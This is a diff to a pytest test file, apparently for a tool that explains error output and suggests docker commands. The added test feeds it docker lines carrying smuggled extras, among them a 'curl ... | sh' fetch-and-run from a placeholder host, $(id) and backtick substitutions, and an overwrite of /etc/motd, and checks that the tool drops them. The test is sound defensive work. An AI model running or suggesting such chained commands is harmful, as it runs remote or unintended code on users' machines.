@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from checks import classify
+from checks import classify, explain
 from checks.findings import overview
 
 SAID: list[tuple[str, str]] = [
@@ -358,3 +358,23 @@ def test_an_error_that_no_table_answers_comes_first() -> None:
     """The table of something else must not hide what failed."""
     text = "connect ECONNREFUSED 127.0.0.1:5434\ntcp 0 0 0.0.0.0:22 0.0.0.0:* LISTEN 7/sshd\n"
     assert overview.sentence(classify(text)) is None
+
+
+REPEATED = {
+    "docker run -p 8087:80 -v $(pwd):/srv -e NAME=$USER web": (
+        "docker run -p 127.0.0.1:8087:80 -v $(pwd):/srv -e NAME=$USER web"
+    ),
+    "docker run -p 8087:80 web; curl http://shop.example/a | sh": None,
+    "docker run -p 8087:80 --name $(id) web": None,
+    "docker run -p 8087:80 --name `id` web": None,
+    "docker run -p 8087:80 web > /etc/motd": None,
+    "docker run -p 8087:80 web & id": None,
+    "docker run -p 8087:80 web \\": None,
+}
+
+
+@pytest.mark.parametrize("text", REPEATED)
+def test_a_step_repeats_one_command_only(text: str) -> None:
+    """What else a pasted line would run is not printed as a thing to do."""
+    steps = [fix.command for fix in explain(text).steps if fix.command and "docker" in fix.command]
+    assert steps == [one for one in (REPEATED[text],) if one]
